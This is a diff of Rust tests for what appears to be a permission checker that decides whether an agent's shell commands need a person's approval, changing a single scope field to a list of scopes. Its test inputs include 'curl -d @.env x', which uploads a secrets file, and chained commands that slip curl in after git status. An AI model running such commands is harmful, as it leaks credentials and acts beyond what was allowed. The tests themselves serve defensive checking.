@@ -108,7 +108,7 @@ fn what_acts_elsewhere_is_allowed_only_by_a_rule_of_the_person_that_names_it() {
     assert_eq!(b.bash(&named, "git status; curl x; git push"), Ask);
     assert_eq!(b.bash(&named, "curl x | sort -o y"), Ask);
     assert_eq!(b.bash(&named, "curl -d @.env x"), Ask);
-    assert_eq!(b.judged(&policy(Vec::new()), "curl x").scope, None);
+    assert!(b.judged(&policy(Vec::new()), "curl x").scopes.is_empty());
 }
 
 #[test]
@@ -150,8 +150,8 @@ fn what_is_catastrophic_is_denied_unless_the_person_asks_to_be_asked() {
         );
         let verdict = b.judged(&asked, text);
         assert_eq!(
-            (verdict.action, verdict.scope, verdict.needs_person),
-            (Ask, None, true),
+            (verdict.action, verdict.scopes, verdict.needs_person),
+            (Ask, Vec::new(), true),
             "{text}"
         );
     }
